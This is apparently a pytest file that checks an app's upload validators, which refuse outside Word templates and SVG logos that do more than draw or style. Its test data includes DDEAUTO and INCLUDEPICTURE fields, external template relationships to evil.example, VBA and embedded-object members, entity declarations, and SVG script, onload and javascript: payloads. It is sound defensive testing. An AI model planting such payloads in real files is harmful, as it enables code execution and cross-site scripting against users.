"""Templates and logos from outside: what only draws or styles is taken, everything else is refused in one sentence."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from django.utils import translation

from entente.foundation.common.errors import RuleBroken
from entente.surfaces.reports.forms import Form, as_file
from entente.surfaces.reports.uploads import LOGO_BYTES_MAX, TEMPLATE_BYTES_MAX, checked_logo, checked_template
from entente.surfaces.reports.writers.pdf import picture_of

from .sample import DOCUMENT, SVG


def word(**members: bytes) -> bytes:
    """A Word file with these members more."""
    out = io.BytesIO()
    docx.Document().save(out)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"not a zip", "is no Word file that can be opened"),
        (b"PK\x03\x04 broken", "is no Word file that can be opened"),
        (b"%PDF-1.7", "is no Word file that can be opened"),
        (word(word__vbaProject_dot_bin=b"x"), "holds a program"),
        (word(word__more_dot_xml=b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), "defines entities of its own"),
        (word(word__bomb_dot_xml=b"0" * 40_000_000), "is no Word file that can be opened"),
        (b"0" * (TEMPLATE_BYTES_MAX + 1), "is larger than a template should be"),
    ],
)
def test_what_is_no_template_is_refused_in_one_sentence(data: bytes, why: str) -> None:
    with pytest.raises(RuleBroken, match=why):
        checked_template("house.docx", data)


RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str) -> bytes:
    """Relationships of a part, one of them to the outside."""
    return (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        + f'Type="{RELATED}/{kind}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'.encode()
    )


def field(code: str) -> bytes:
    words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:hdr xmlns:w="{words}"><w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p></w:hdr>'.encode()


@pytest.mark.parametrize(
    ("content", "is_refused"),
    [
        (related("attachedTemplate"), True),
        (related("image"), True),
        (related("frame"), True),
        (related("hyperlink"), False),
        (field('DDEAUTO c:\\\\x "calc"'), True),
        (field('INCLUDEPICTURE "https://evil.example/a.png"'), True),
        (field("PAGE"), False),
    ],
)
def test_a_template_that_fetches_something_is_refused_and_a_link_is_not(content: bytes, is_refused: bool) -> None:
    name = "word___rels__extra_dot_xml_dot_rels" if content.startswith(b"<Rel") else "word__header9_dot_xml"
    data = word(**{name: content})
    if not is_refused:
        assert checked_template("house.docx", data) == data
        return
    with pytest.raises(RuleBroken, match="fetches something from outside"):
        checked_template("house.docx", data)


def test_an_embedded_object_is_refused() -> None:
    with pytest.raises(RuleBroken, match="holds a program"):
        checked_template("house.docx", word(word__embeddings__book_dot_xlsx=b"PK"))


def test_a_spreadsheet_is_no_template() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("xl/workbook.xml", b"<workbook/>")
    with pytest.raises(RuleBroken, match="is no Word file"):
        checked_template("house.docx", out.getvalue())


def test_a_template_is_taken_as_it_is() -> None:
    same = word()
    assert checked_template("house.docx", same) == same


@pytest.mark.parametrize(
    "inner",
    [
        "<script>alert(1)</script>",
        '<rect width="1" height="1" onload="alert(1)"/>',
        "<style>rect{fill:url(https://evil.example)}</style>",
        '<image href="https://evil.example/a.png"/>',
        '<use href="https://evil.example/a.svg#b"/>',
        '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>',
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
        '<rect width="1" height="1" fill="url(https://evil.example/#a)"/>',
        '<animate attributeName="href" to="javascript:alert(1)"/>',
    ],
)
def test_a_logo_that_does_more_than_draw_is_refused(inner: str) -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{inner}</svg>'
    with pytest.raises(RuleBroken, match="does more than draw"):
        checked_logo("logo.svg", svg.encode())


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg/>", "defines entities"),
        (b"GIF89a", "is neither a PNG nor an SVG"),
        (b"<html/>", "does more than draw"),
        (b"0" * (LOGO_BYTES_MAX + 1), "is larger than a logo should be"),
    ],
)
def test_what_is_no_logo_is_refused(data: bytes, why: str) -> None:
    with pytest.raises(RuleBroken, match=why):
        checked_logo("logo.svg", data)


@pytest.mark.parametrize("form", [Form.PDF, Form.WORD])
def test_a_logo_that_draws_stands_on_the_report(form: Form) -> None:
    logo = checked_logo("logo.svg", SVG.encode())
    assert logo.is_svg
    assert as_file(DOCUMENT, form, logo=logo) != as_file(DOCUMENT, form)


@pytest.mark.parametrize("form", [Form.PDF, Form.WORD])
def test_a_logo_of_points_stands_on_it_too(form: Form) -> None:
    logo = checked_logo("logo.png", picture_of(SVG.encode()))
    assert not logo.is_svg
    assert as_file(DOCUMENT, form, logo=logo) != as_file(DOCUMENT, form)


@pytest.mark.parametrize(("language", "why"), [("es", "no es un archivo de Word"), ("fr", "n’est pas un fichier Word")])
def test_a_refusal_is_told_in_the_language_that_is_read(language: str, why: str) -> None:
    with translation.override(language), pytest.raises(RuleBroken, match=why):
        checked_template("house.docx", b"no Word file")


def test_a_word_template_is_taken_as_the_document_that_it_describes() -> None:
    template, out = word(), io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as package, zipfile.ZipFile(out, "w") as written:
        for name in package.namelist():
            content = package.read(name).replace(b"document.main+xml", b"template.main+xml")
            written.writestr(name, content)
    taken = checked_template("house.dotx", out.getvalue())
    assert taken == checked_template("house.dotx", out.getvalue())
    assert docx.Document(io.BytesIO(taken)).styles["Heading 1"] is not None
    assert as_file(DOCUMENT, Form.WORD, template=taken) == as_file(DOCUMENT, Form.WORD, template=word())
